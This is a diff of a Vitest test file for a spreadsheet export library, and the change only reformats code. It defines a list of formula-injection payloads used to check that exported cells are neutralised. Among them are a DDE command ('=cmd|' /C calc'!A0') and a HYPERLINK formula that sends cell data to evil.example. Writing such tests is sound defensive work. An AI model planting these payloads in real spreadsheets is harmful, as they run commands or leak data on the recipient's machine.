@@ -10,9 +10,22 @@ import { describe, expect, it } from 'vitest';
 import { departmentDocument, formDocument, plainSpreadsheetText, renderXlsx, spreadsheetText } from '../src/index.ts';
 
 const dir = join(import.meta.dirname, '../../../fixtures/golden');
-const hebei = readdirSync(dir).filter((f) => f.startsWith('hebei') && f.includes('.form-')).sort().map((f): Evaluation => JSON.parse(readFileSync(join(dir, f), 'utf8')));
+const hebei = readdirSync(dir)
+  .filter((f) => f.startsWith('hebei') && f.includes('.form-'))
+  .sort()
+  .map((f): Evaluation => JSON.parse(readFileSync(join(dir, f), 'utf8')));
 
-const PAYLOADS = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?x="&A1,"点击")', '+1+cmd|x', '-2+3+cmd|x', '@SUM(1+1)*cmd|x', '\t=1+1', '\r=1+1', '  =1+1', '=100%'];
+const PAYLOADS = [
+  "=cmd|' /C calc'!A0",
+  '=HYPERLINK("http://evil.example/?x="&A1,"点击")',
+  '+1+cmd|x',
+  '-2+3+cmd|x',
+  '@SUM(1+1)*cmd|x',
+  '\t=1+1',
+  '\r=1+1',
+  '  =1+1',
+  '=100%',
+];
 
 describe('spreadsheetText', () => {
   it('puts the text mark before every formula-like start, and leaves plain numbers and dashes alone', () => {
